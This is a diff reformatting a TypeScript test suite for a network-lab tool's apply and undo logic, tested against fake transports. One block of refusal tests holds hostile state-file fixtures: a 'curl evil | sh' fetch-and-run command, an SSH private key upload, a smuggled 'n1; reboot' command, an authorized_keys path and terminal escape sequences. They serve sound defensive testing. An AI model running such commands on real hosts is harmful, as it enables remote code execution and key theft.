@@ -15,7 +15,10 @@ import { FakeTransport } from "../helpers/fake-transport.js";
  * state bookkeeping and fault handling. Nothing here says anything about SSH itself.
  */
 const lab: Lab = (() => {
-  const r = validateText("/labs/eng/lab.yaml", "name: eng\nid: eng-lab-1\nhosts:\n  a: { address: 10.0.0.1 }\n  b: { address: 10.0.0.2 }\n  c: { address: 10.0.0.3 }\n");
+  const r = validateText(
+    "/labs/eng/lab.yaml",
+    "name: eng\nid: eng-lab-1\nhosts:\n  a: { address: 10.0.0.1 }\n  b: { address: 10.0.0.2 }\n  c: { address: 10.0.0.3 }\n",
+  );
   if (!r.lab) throw new Error("test lab invalid");
   return r.lab;
 })();
@@ -26,7 +29,14 @@ const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 /** Step `${host}-${id}`: check `chk <id>`, actions `do <id>` (and more when asked), undo `undo <id>`. */
 function step(host: string, id: string, phase: Phase, extra: Action[] = []): Step {
   const sid = `${host}-${id}`;
-  return { id: sid, phase, title: `step ${sid}`, check: `chk ${sid}`, actions: [{ kind: "run", command: `do ${sid}` }, ...extra], undo: [{ kind: "promisc-off", dev: sid }] };
+  return {
+    id: sid,
+    phase,
+    title: `step ${sid}`,
+    check: `chk ${sid}`,
+    actions: [{ kind: "run", command: `do ${sid}` }, ...extra],
+    undo: [{ kind: "promisc-off", dev: sid }],
+  };
 }
 
 function hostPlan(host: string): HostPlan {
@@ -34,7 +44,13 @@ function hostPlan(host: string): HostPlan {
     host,
     address: "10.0.0.1",
     facts: { os: "debian", detected: true },
-    steps: [step(host, "k1", "kernel"), step(host, "i1", "interfaces"), step(host, "i2", "interfaces"), step(host, "n1", "namespaces"), { ...step(host, "v", "verify"), check: undefined }],
+    steps: [
+      step(host, "k1", "kernel"),
+      step(host, "i1", "interfaces"),
+      step(host, "i2", "interfaces"),
+      step(host, "n1", "namespaces"),
+      { ...step(host, "v", "verify"), check: undefined },
+    ],
   };
 }
 
@@ -50,7 +66,9 @@ const PROBE = /^echo '--state'$/m;
 
 /** A host whose probe answers from `passing`/`state`; every other command exits 0. */
 function hostFake(plan: HostPlan, opts: { passing?: string[]; state?: HostState } = {}): FakeTransport {
-  return new FakeTransport(plan.host).on(PROBE, { stdout: probeOutput(plan.steps, new Set(opts.passing ?? []), opts.state) });
+  return new FakeTransport(plan.host).on(PROBE, {
+    stdout: probeOutput(plan.steps, new Set(opts.passing ?? []), opts.state),
+  });
 }
 
 interface Recorded {
@@ -93,7 +111,8 @@ async function apply(plan: Plan, fakes: FakeTransport[], over: Partial<ApplyOpti
 }
 
 const statusOf = (result: ApplyResult) => Object.fromEntries(result.outcomes.map((o) => [o.step.id, o.status]));
-const lastState = (fake: FakeTransport): HostState => JSON.parse(fake.writes.filter((w) => w.command === STATE).at(-1)!.stdin!) as HostState;
+const lastState = (fake: FakeTransport): HostState =>
+  JSON.parse(fake.writes.filter((w) => w.command === STATE).at(-1)!.stdin!) as HostState;
 const stateWrites = (fake: FakeTransport) => fake.writes.filter((w) => w.command === STATE);
 
 describe("applyPlan", () => {
@@ -103,7 +122,16 @@ describe("applyPlan", () => {
     const { result, rec } = await apply(plan, fakes);
     expect(result.failed).toBe(false);
     expect(result.interrupted).toBe(false);
-    expect(statusOf(result)).toEqual({ "a-k1": "ok", "a-i1": "ok", "a-i2": "ok", "a-n1": "ok", "b-k1": "ok", "b-i1": "ok", "b-i2": "ok", "b-n1": "ok" });
+    expect(statusOf(result)).toEqual({
+      "a-k1": "ok",
+      "a-i1": "ok",
+      "a-i2": "ok",
+      "a-n1": "ok",
+      "b-k1": "ok",
+      "b-i1": "ok",
+      "b-i2": "ok",
+      "b-n1": "ok",
+    });
     for (const f of fakes) {
       expect(f.commands).toHaveLength(1);
       expect(f.commands[0]).toMatch(PROBE);
@@ -208,7 +236,11 @@ describe("applyPlan", () => {
         if (++calls > 1) throw new TypeError("Cannot read properties of undefined (reading 'write')");
       },
     };
-    const result = await applyPlan(lab, plan, new Map<string, Transport>(fakes.map((f) => [f.host, f])), { parallel: 10, events: throwing, commandTimeoutMs: 5000 });
+    const result = await applyPlan(lab, plan, new Map<string, Transport>(fakes.map((f) => [f.host, f])), {
+      parallel: 10,
+      events: throwing,
+      commandTimeoutMs: 5000,
+    });
     expect(result.failed).toBe(false);
     expect(Object.values(statusOf(result))).toEqual(Array(8).fill("changed"));
     expect(rec.starts).toHaveLength(8);
@@ -238,7 +270,9 @@ describe("applyPlan", () => {
     const { result } = await apply(plan, fakes, { holder: "lab eng (up) from test, pid 1" });
     expect(result.failed).toBe(true);
     for (const f of fakes) {
-      expect(f.commands[0]).toMatch(/^mkdir -p \/var\/lib\/lab && chmod 700 \/var\/lib\/lab \|\| exit 1\nexec 9>>\/var\/lib\/lab\/lock\nif ! flock -n 9; then/);
+      expect(f.commands[0]).toMatch(
+        /^mkdir -p \/var\/lib\/lab && chmod 700 \/var\/lib\/lab \|\| exit 1\nexec 9>>\/var\/lib\/lab\/lock\nif ! flock -n 9; then/,
+      );
       expect(f.commands[0]).toContain("printf '%s\\n' 'lab eng (up) from test, pid 1' > /var/lib/lab/lock.holder");
       expect(f.commands[0]).toContain("\ncat >/dev/null\n");
       expect(f.released).toEqual([f.commands[0]]);
@@ -247,12 +281,16 @@ describe("applyPlan", () => {
 
   it("a host whose lock another run holds stops the run before any change, naming the holder; the other locks are released", async () => {
     const plan = planFor(["a", "b"]);
-    const busy = new FakeTransport("b").on(PROBE, { code: 75, stdout: "--busy\nlab other (down) from laptop, pid 4242, since 2026-01-01T00:00:00Z\u001b[2J\n" });
+    const busy = new FakeTransport("b").on(PROBE, {
+      code: 75,
+      stdout: "--busy\nlab other (down) from laptop, pid 4242, since 2026-01-01T00:00:00Z\u001b[2J\n",
+    });
     const free = hostFake(plan.hosts[0]!);
     await expect(apply(plan, [free, busy])).rejects.toMatchObject({
       host: "b",
       exitCode: 3,
-      message: "busy: lab other (down) from laptop, pid 4242, since 2026-01-01T00:00:00Z [2J is working on this host; nothing was changed here. Run again once it has ended",
+      message:
+        "busy: lab other (down) from laptop, pid 4242, since 2026-01-01T00:00:00Z [2J is working on this host; nothing was changed here. Run again once it has ended",
     });
     expect(free.commands).toHaveLength(1);
     expect(free.released).toHaveLength(1);
@@ -260,7 +298,20 @@ describe("applyPlan", () => {
 
   it("writes the state after each step that completed an action, keeping what was recorded before", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "2024-01-01T00:00:00.000Z", changed: [{ id: "old-step", title: "from an earlier run", undo: [{ kind: "delete-netns", netns: "old" }], at: "2024-01-01T00:00:00.000Z" }] };
+    const before: HostState = {
+      lab: "eng",
+      id: "eng-lab-1",
+      version: 3,
+      updatedAt: "2024-01-01T00:00:00.000Z",
+      changed: [
+        {
+          id: "old-step",
+          title: "from an earlier run",
+          undo: [{ kind: "delete-netns", netns: "old" }],
+          at: "2024-01-01T00:00:00.000Z",
+        },
+      ],
+    };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i2"], state: before });
     const { result } = await apply(plan, [fake]);
     expect(result.failed).toBe(false);
@@ -279,14 +330,25 @@ describe("applyPlan", () => {
     expect(state.version).toBe(3);
     expect(state.id).toBe("eng-lab-1");
     expect(state.changed.map((c) => c.id)).toEqual(["old-step", "a-k1", "a-i1", "a-n1"]);
-    expect(state.changed[1]).toMatchObject({ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }] });
+    expect(state.changed[1]).toMatchObject({
+      id: "a-k1",
+      title: "step a-k1",
+      undo: [{ kind: "promisc-off", dev: "a-k1" }],
+    });
     expect(Number.isNaN(Date.parse(state.changed[1]!.at))).toBe(false);
   });
 
   it("a step whose command was cut off (connection lost, deadline passed) is recorded: it may have taken effect, and lab down must know", async () => {
     const plan = planFor(["a", "b"]);
     const fakes = [
-      hostFake(plan.hosts[0]!).throwOn(/^do a-k1$/, new LabError("connection lost while the command ran (reset); whether it took effect is unknown", "connection-lost", "a")),
+      hostFake(plan.hosts[0]!).throwOn(
+        /^do a-k1$/,
+        new LabError(
+          "connection lost while the command ran (reset); whether it took effect is unknown",
+          "connection-lost",
+          "a",
+        ),
+      ),
       hostFake(plan.hosts[1]!).failOn(/^do b-k1$/, { code: null, timedOut: true }),
     ];
     const { result } = await apply(plan, fakes);
@@ -302,7 +364,13 @@ describe("applyPlan", () => {
 
   it("a step already recorded is not recorded twice", async () => {
     const plan = planFor(["a"]);
-    const recorded: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "x", changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }], at: "then" }] };
+    const recorded: HostState = {
+      lab: "eng",
+      id: "eng-lab-1",
+      version: 3,
+      updatedAt: "x",
+      changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }], at: "then" }],
+    };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i1", "a-i2", "a-n1"], state: recorded });
     const { result } = await apply(plan, [fake]);
     expect(statusOf(result)["a-k1"]).toBe("changed");
@@ -366,7 +434,11 @@ describe("applyPlan", () => {
 
   it("emits exactly one step event per non-verify step, matching the outcomes, and command events for what ran", async () => {
     const plan = planFor(["a", "b", "c"]);
-    const fakes = [hostFake(plan.hosts[0]!, { passing: ["a-k1"] }), hostFake(plan.hosts[1]!).failOn(/^do b-i2$/), hostFake(plan.hosts[2]!)];
+    const fakes = [
+      hostFake(plan.hosts[0]!, { passing: ["a-k1"] }),
+      hostFake(plan.hosts[1]!).failOn(/^do b-i2$/),
+      hostFake(plan.hosts[2]!),
+    ];
     const { result, rec } = await apply(plan, fakes);
     const nonVerify = plan.hosts.flatMap((h) => h.steps.filter((s) => s.phase !== "verify").map((s) => s.id));
     expect(rec.steps.map((s) => s.id).sort()).toEqual([...nonVerify].sort());
@@ -375,20 +447,36 @@ describe("applyPlan", () => {
     // verify steps are not the engine's: no outcome, no event
     expect(result.outcomes.some((o) => o.step.phase === "verify")).toBe(false);
     // stepStart exactly for the steps that ran
-    expect(rec.starts.sort()).toEqual(result.outcomes.filter((o) => o.status === "changed" || o.status === "failed").map((o) => o.step.id).sort());
+    expect(rec.starts.sort()).toEqual(
+      result.outcomes
+        .filter((o) => o.status === "changed" || o.status === "failed")
+        .map((o) => o.step.id)
+        .sort(),
+    );
     expect(rec.commands).toContain("b: do b-i2");
     expect(rec.commands).not.toContain("a: do a-k1");
-    expect(rec.phases.every((p, i) => i === 0 || PHASES.findIndex((x) => x.id === p) > PHASES.findIndex((x) => x.id === rec.phases[i - 1]))).toBe(true);
+    expect(
+      rec.phases.every(
+        (p, i) => i === 0 || PHASES.findIndex((x) => x.id === p) > PHASES.findIndex((x) => x.id === rec.phases[i - 1]),
+      ),
+    ).toBe(true);
   });
 
   it("another lab with the same name (another id) on a host: lab up changes nothing on any host and says whose state it is", async () => {
     const plan = planFor(["a", "b"]);
-    const theirs: HostState = { lab: "eng", id: "someone-elses", version: 3, updatedAt: "x", changed: [{ id: "their-step", title: "theirs", undo: [{ kind: "delete-netns", netns: "theirs" }], at: "then" }] };
+    const theirs: HostState = {
+      lab: "eng",
+      id: "someone-elses",
+      version: 3,
+      updatedAt: "x",
+      changed: [{ id: "their-step", title: "theirs", undo: [{ kind: "delete-netns", netns: "theirs" }], at: "then" }],
+    };
     const fakes = [hostFake(plan.hosts[0]!), hostFake(plan.hosts[1]!, { state: theirs })];
     await expect(apply(plan, fakes)).rejects.toMatchObject({
       host: "b",
       exitCode: 1,
-      message: "another lab named eng is on this host (id someone-elses; this lab file has id eng-lab-1); nothing was run on this host. Take that lab down with its own lab file, or give this lab another name",
+      message:
+        "another lab named eng is on this host (id someone-elses; this lab file has id eng-lab-1); nothing was run on this host. Take that lab down with its own lab file, or give this lab another name",
     });
     for (const f of fakes) {
       expect(f.commands).toHaveLength(1);
@@ -401,9 +489,21 @@ describe("applyPlan", () => {
   // record of earlier runs.
   it("a probe cut short after the state stops the run before any change, so the recorded state is never lost", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "x", changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "delete-netns", netns: "old" }], at: "then" }] };
-    const fake = new FakeTransport("a").on(PROBE, { code: null, timedOut: true, stdout: `--state\n${JSON.stringify(before)}\n` });
-    await expect(apply(plan, [fake])).rejects.toThrow(/cannot read the host's current state \(timed out\); nothing was changed here/);
+    const before: HostState = {
+      lab: "eng",
+      id: "eng-lab-1",
+      version: 3,
+      updatedAt: "x",
+      changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "delete-netns", netns: "old" }], at: "then" }],
+    };
+    const fake = new FakeTransport("a").on(PROBE, {
+      code: null,
+      timedOut: true,
+      stdout: `--state\n${JSON.stringify(before)}\n`,
+    });
+    await expect(apply(plan, [fake])).rejects.toThrow(
+      /cannot read the host's current state \(timed out\); nothing was changed here/,
+    );
     expect(stateWrites(fake)).toEqual([]);
     expect(fake.commands).toHaveLength(1);
   });
@@ -412,12 +512,20 @@ describe("applyPlan", () => {
   // steps kept running unobserved.
   it("a failing state write (a full disk) fails that host, not the whole run, and takes the unrecorded change back at once", async () => {
     const plan = planFor(["a", "b"]);
-    const fakes = [hostFake(plan.hosts[0]!).failWrite(/^\/var\/lib\/lab\//, new Error("cannot write /var/lib/lab/eng.json: No space left on device")), hostFake(plan.hosts[1]!)];
+    const fakes = [
+      hostFake(plan.hosts[0]!).failWrite(
+        /^\/var\/lib\/lab\//,
+        new Error("cannot write /var/lib/lab/eng.json: No space left on device"),
+      ),
+      hostFake(plan.hosts[1]!),
+    ];
     const { result } = await apply(plan, fakes);
     expect(result.failed).toBe(true);
     expect(statusOf(result)["b-k1"]).toBe("changed");
     const failed = result.outcomes.find((o) => o.status === "failed")!;
-    expect(failed.error!.message).toBe("the record for lab down could not be written (cannot write /var/lib/lab/eng.json: No space left on device); the change was undone again, so the host is as it was");
+    expect(failed.error!.message).toBe(
+      "the record for lab down could not be written (cannot write /var/lib/lab/eng.json: No space left on device); the change was undone again, so the host is as it was",
+    );
     // The change, then its undo: nothing the lab did stays on a host without a record.
     expect(fakes[0]!.commands.slice(1)).toEqual(["do a-k1", "ip link set a-k1 promisc off"]);
   });
@@ -425,9 +533,20 @@ describe("applyPlan", () => {
 
 describe("undoLab", () => {
   // Each undo is a typed record; promisc-off builds one plain command per record: "ip link set <dev> promisc off".
-  const entry = (id: string, ...devs: string[]): HostState["changed"][number] => ({ id, title: `title ${id}`, undo: devs.map((dev) => ({ kind: "promisc-off" as const, dev })), at: "t" });
+  const entry = (id: string, ...devs: string[]): HostState["changed"][number] => ({
+    id,
+    title: `title ${id}`,
+    undo: devs.map((dev) => ({ kind: "promisc-off" as const, dev })),
+    at: "t",
+  });
   const off = (dev: string) => `ip link set ${dev} promisc off`;
-  const stateWith = (...changed: HostState["changed"]): HostState => ({ lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed });
+  const stateWith = (...changed: HostState["changed"]): HostState => ({
+    lab: "eng",
+    id: "eng-lab-1",
+    version: 3,
+    updatedAt: "t",
+    changed,
+  });
   const READ = "if [ -e /var/lib/lab/eng.json ]; then cat /var/lib/lab/eng.json; fi";
   const CAT = /^if \[ -e \/var\/lib\/lab\/eng\.json \]; then cat /;
   const REMOVE = "rm -rf /var/lib/lab/eng.json /var/lib/lab/eng.backup; rmdir /var/lib/lab 2>/dev/null || true";
@@ -437,19 +556,33 @@ describe("undoLab", () => {
   const undo = async (fakes: FakeTransport[], signal?: AbortSignal) => {
     for (const f of fakes) f.on(LOCK, { stdout: "--locked\n" });
     const { events, rec } = recorder();
-    const outcomes = await undoLab(lab, new Map(fakes.map((f) => [f.host, f])), { parallel: 4, events, commandTimeoutMs: 5000, signal });
+    const outcomes = await undoLab(lab, new Map(fakes.map((f) => [f.host, f])), {
+      parallel: 4,
+      events,
+      commandTimeoutMs: 5000,
+      signal,
+    });
     return { outcomes, rec };
   };
-  const savedStates = (fake: FakeTransport) => fake.writes.filter((w) => w.command === STATE).map((w) => (JSON.parse(w.stdin!) as HostState).changed.map((c) => c.id));
+  const savedStates = (fake: FakeTransport) =>
+    fake.writes
+      .filter((w) => w.command === STATE)
+      .map((w) => (JSON.parse(w.stdin!) as HostState).changed.map((c) => c.id));
 
   it("undoes newest first, each record in order, saving the state after each entry, then removes it", async () => {
-    const fake = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1a", "u1b"), entry("e2", "u2"), entry("e3", "u3"))) });
+    const fake = new FakeTransport("a").on(CAT, {
+      stdout: JSON.stringify(stateWith(entry("e1", "u1a", "u1b"), entry("e2", "u2"), entry("e3", "u3"))),
+    });
     const { outcomes, rec } = await undo([fake]);
     expect(cmds(fake)).toEqual([READ, off("u3"), off("u2"), off("u1a"), off("u1b"), REMOVE]);
     // Stopped at any point, a later lab down continues from what is left.
     expect(savedStates(fake)).toEqual([["e1", "e2"], ["e1"]]);
     expect(outcomes).toEqual([{ host: "a", undone: 3, failed: [] }]);
-    expect(rec.undos.map((u) => `${u.title} ${u.status}`)).toEqual(["title e3 changed", "title e2 changed", "title e1 changed"]);
+    expect(rec.undos.map((u) => `${u.title} ${u.status}`)).toEqual([
+      "title e3 changed",
+      "title e2 changed",
+      "title e1 changed",
+    ]);
   });
 
   it("keeps a failed entry in the state, reports it, and still undoes the rest", async () => {
@@ -460,14 +593,32 @@ describe("undoLab", () => {
     // the failed entry's later records are not run; older entries still are
     expect(cmds(fake).slice(1)).toEqual([off("u3"), off("u2a"), off("u1")]);
     expect(cmds(fake)).not.toContain(REMOVE);
-    expect(outcomes).toEqual([{ host: "a", undone: 2, failed: [{ id: "e2", title: "title e2", message: `${off("u2a")}: exit 4: Cannot find device` }] }]);
+    expect(outcomes).toEqual([
+      {
+        host: "a",
+        undone: 2,
+        failed: [{ id: "e2", title: "title e2", message: `${off("u2a")}: exit 4: Cannot find device` }],
+      },
+    ]);
     expect(savedStates(fake).at(-1)).toEqual(["e2"]);
-    expect(rec.undos.find((u) => u.status === "failed")).toEqual({ host: "a", title: "title e2", status: "failed", detail: `${off("u2a")}: exit 4: Cannot find device` });
+    expect(rec.undos.find((u) => u.status === "failed")).toEqual({
+      host: "a",
+      title: "title e2",
+      status: "failed",
+      detail: `${off("u2a")}: exit 4: Cannot find device`,
+    });
   });
 
   it("an object already gone counts as undone (a lab down that stopped half-way, or a host changed by hand)", async () => {
-    const gone: HostState["changed"][number] = { id: "ns", title: "netns n1", undo: [{ kind: "delete-netns", netns: "n1" }], at: "t" };
-    const fake = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(gone)) }).on(/^\[ ! -e \/run\/netns\/n1 \]$/, { code: 0 });
+    const gone: HostState["changed"][number] = {
+      id: "ns",
+      title: "netns n1",
+      undo: [{ kind: "delete-netns", netns: "n1" }],
+      at: "t",
+    };
+    const fake = new FakeTransport("a")
+      .on(CAT, { stdout: JSON.stringify(stateWith(gone)) })
+      .on(/^\[ ! -e \/run\/netns\/n1 \]$/, { code: 0 });
     const { outcomes } = await undo([fake]);
     expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [] }]);
     expect(cmds(fake)).not.toContain("ip netns del n1");
@@ -483,7 +634,9 @@ describe("undoLab", () => {
 
   it("each host is undone from its own state", async () => {
     const a = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(entry("x", "ua"))) });
-    const b = new FakeTransport("b").on(CAT, { stdout: JSON.stringify(stateWith(entry("y", "ub1"), entry("z", "ub2"))) }).failOn(/ ub1 /);
+    const b = new FakeTransport("b")
+      .on(CAT, { stdout: JSON.stringify(stateWith(entry("y", "ub1"), entry("z", "ub2"))) })
+      .failOn(/ ub1 /);
     const { outcomes } = await undo([a, b]);
     expect(outcomes.map((o) => [o.host, o.undone, o.failed.map((f) => f.id)])).toEqual([
       ["a", 1, []],
@@ -507,14 +660,54 @@ describe("undoLab", () => {
   describe("a host's state file is data, never code", () => {
     const refusedHost = (text: string) => new FakeTransport("evil").on(CAT, { stdout: text });
     const hostile: Record<string, unknown> = {
-      "a command string (the old format)": { lab: "eng", version: 1, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "curl evil | sh" }], at: "t" }] },
-      "an upload of the operator's key": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" }] },
-      "a run record": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }] },
-      "a name outside the lab grammar": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }] },
-      "a file lab never writes": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" }] },
-      "terminal escapes in an unknown key": '{"lab":"eng","id":"eng-lab-1","version":3,"updatedAt":"t","changed":[],"\\u001b]52;c;eA==\\u0007":1}',
+      "a command string (the old format)": {
+        lab: "eng",
+        version: 1,
+        updatedAt: "t",
+        changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "curl evil | sh" }], at: "t" }],
+      },
+      "an upload of the operator's key": {
+        lab: "eng",
+        id: "eng-lab-1",
+        version: 3,
+        updatedAt: "t",
+        changed: [
+          { id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" },
+        ],
+      },
+      "a run record": {
+        lab: "eng",
+        id: "eng-lab-1",
+        version: 3,
+        updatedAt: "t",
+        changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }],
+      },
+      "a name outside the lab grammar": {
+        lab: "eng",
+        id: "eng-lab-1",
+        version: 3,
+        updatedAt: "t",
+        changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }],
+      },
+      "a file lab never writes": {
+        lab: "eng",
+        id: "eng-lab-1",
+        version: 3,
+        updatedAt: "t",
+        changed: [
+          { id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" },
+        ],
+      },
+      "terminal escapes in an unknown key":
+        '{"lab":"eng","id":"eng-lab-1","version":3,"updatedAt":"t","changed":[],"\\u001b]52;c;eA==\\u0007":1}',
       "terminal escapes in text that is not JSON": "\u001b[2J{",
-      "terminal escapes in a title": { lab: "eng", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }] },
+      "terminal escapes in a title": {
+        lab: "eng",
+        id: "eng-lab-1",
+        version: 3,
+        updatedAt: "t",
+        changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }],
+      },
       "another lab's state": { lab: "other", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [] },
       "a state without a lab id (version 2)": { lab: "eng", version: 2, updatedAt: "t", changed: [] },
       "not JSON": "{ not json",
@@ -527,7 +720,12 @@ describe("undoLab", () => {
         expect(cmds(evil)).toEqual([READ]);
         expect(evil.released).toHaveLength(1);
         expect(evil.writes).toEqual([]);
-        expect(outcomes[0]).toMatchObject({ host: "evil", undone: 0, failed: [], refused: expect.stringMatching(/^\/var\/lib\/lab\/eng\.json is refused \(.+\); nothing was run on this host/) });
+        expect(outcomes[0]).toMatchObject({
+          host: "evil",
+          undone: 0,
+          failed: [],
+          refused: expect.stringMatching(/^\/var\/lib\/lab\/eng\.json is refused \(.+\); nothing was run on this host/),
+        });
         expect(outcomes[0]!.refused).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
         expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
       });
@@ -535,7 +733,9 @@ describe("undoLab", () => {
   });
 
   it("another lab with the same name (another id) on one host: nothing is undone there, the other hosts go on", async () => {
-    const theirs = new FakeTransport("shared").on(CAT, { stdout: JSON.stringify({ ...stateWith(entry("e", "theirs")), id: "someone-elses" }) });
+    const theirs = new FakeTransport("shared").on(CAT, {
+      stdout: JSON.stringify({ ...stateWith(entry("e", "theirs")), id: "someone-elses" }),
+    });
     const good = new FakeTransport("good").on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "g1"))) });
     const { outcomes } = await undo([theirs, good]);
     expect(cmds(theirs)).toEqual([READ]);
@@ -547,9 +747,15 @@ describe("undoLab", () => {
   });
 
   it("a lab file without an id never undoes a lab recorded with one: it is told the id to add", async () => {
-    const fake = new FakeTransport("a").on(LOCK, { stdout: "--locked\n" }).on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "u"))) });
+    const fake = new FakeTransport("a")
+      .on(LOCK, { stdout: "--locked\n" })
+      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "u"))) });
     const { events } = recorder();
-    const outcomes = await undoLab({ name: "eng", file: lab.file }, new Map([["a", fake]]), { parallel: 1, events, commandTimeoutMs: 5000 });
+    const outcomes = await undoLab({ name: "eng", file: lab.file }, new Map([["a", fake]]), {
+      parallel: 1,
+      events,
+      commandTimeoutMs: 5000,
+    });
     expect(cmds(fake)).toEqual([READ]);
     expect(outcomes[0]!.refused).toBe(
       "the lab eng on this host has id eng-lab-1 and this lab file has none; nothing was run on this host. If it is that lab, add `id: eng-lab-1` under name: in the lab file",
